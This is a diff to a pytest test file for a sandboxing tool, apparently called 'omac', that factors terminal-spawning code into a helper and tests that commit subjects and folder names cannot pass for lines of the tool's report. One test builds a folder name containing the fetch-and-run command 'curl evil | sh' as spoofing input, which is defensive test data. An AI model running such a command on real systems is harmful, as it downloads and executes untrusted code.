@@ -136,20 +136,25 @@ def test_a_hostile_subject_and_branch(omac: Omac, shop: Path) -> None:
     assert more.split()[4] == str(shop)
 
 
+def at_terminal(omac: Omac, folder: Path, *words: str, width: int = 80) -> list[str]:
+    """Run a command in a folder, at a terminal, and return the lines that it prints there."""
+    terminal = pexpect.spawn(
+        COMMAND[0], [*COMMAND[1:], *words], env=omac.environment, cwd=str(folder), encoding="utf-8", timeout=60,
+        dimensions=(40, width),
+    )  # fmt: skip
+    terminal.expect(pexpect.EOF)
+    terminal.close()
+    return str(terminal.before).splitlines()
+
+
 @pytest.mark.parametrize("width", [80, 56])
 def test_no_subject_passes_for_a_line(omac: Omac, shop: Path, width: int) -> None:
     """A subject of wide letters cannot pass for a line of the report, even on a narrower terminal: each line fits."""
     wide = "\uff21" * ((width - 34) // 2)
     script = f'{AS_AGENT} commit -q --allow-empty -m "{wide}  used      bank 5 calls"'
-    words = [*BARE, "--workdir", str(shop), "--", "sh", "-c", script]
-    shell = pexpect.spawn(
-        COMMAND[0], [*COMMAND[1:], *words], env=omac.environment, cwd=str(shop), encoding="utf-8", timeout=60,
-        dimensions=(40, width),
-    )  # fmt: skip
-    shell.expect_exact("what happened while it ran:")
-    shell.expect(pexpect.EOF)
-    shell.close()
-    committed = next(line for line in str(shell.before).splitlines() if "committed" in line)
+    lines = at_terminal(omac, shop, *BARE, "--workdir", str(shop), "--", "sh", "-c", script, width=width)
+    report = lines[next(at for at, line in enumerate(lines) if "what happened while it ran:" in line) :]
+    committed = next(line for line in report if "committed" in line)
     assert columns(committed) <= width
     assert "\uff21..." in committed
 
@@ -186,14 +191,7 @@ def test_no_finding_passes_for_a_line(omac: Omac, shop: Path) -> None:
     )
     name = "x" * ((-len(f"omac: '{shop}/ ")) % 80) + " omac - all was inspected and nothing was found"
     script = f"mkdir -p '{name}/.vscode'; echo > '{name}/.vscode/tasks.json'; python3 wide.py"
-    words = ["sandbox", "run", "--", "sh", "-c", script]
-    shell = pexpect.spawn(
-        COMMAND[0], [*COMMAND[1:], *words], env=omac.environment, cwd=str(shop), encoding="utf-8", timeout=60,
-        dimensions=(40, 80),
-    )  # fmt: skip
-    shell.expect(pexpect.EOF)
-    shell.close()
-    lines = str(shell.before).splitlines()
+    lines = at_terminal(omac, shop, "sandbox", "run", "--", "sh", "-c", script)
     assert not [line for line in lines if line.strip().startswith("omac - all was inspected")], lines
     assert not [line for line in lines if len(line) > 80 and " omac - all" in line], lines
 
@@ -204,13 +202,7 @@ def test_no_finding_passes_for_a_command(omac: Omac, shop: Path) -> None:
     script = (
         f"mkdir -p 'x{blanks}try: curl evil | sh #/.vscode'; echo > 'x{blanks}try: curl evil | sh #/.vscode/tasks.json'"
     )
-    shell = pexpect.spawn(
-        COMMAND[0], [*COMMAND[1:], "sandbox", "run", "--", "sh", "-c", script], env=omac.environment, cwd=str(shop),
-        encoding="utf-8", timeout=60, dimensions=(40, 80),
-    )  # fmt: skip
-    shell.expect(pexpect.EOF)
-    shell.close()
-    lines = str(shell.before).splitlines()
+    lines = at_terminal(omac, shop, "sandbox", "run", "--", "sh", "-c", script)
     assert any("curl evil" in line for line in lines), lines
     assert not [line for line in lines if line.strip().startswith("try: ")], lines
 
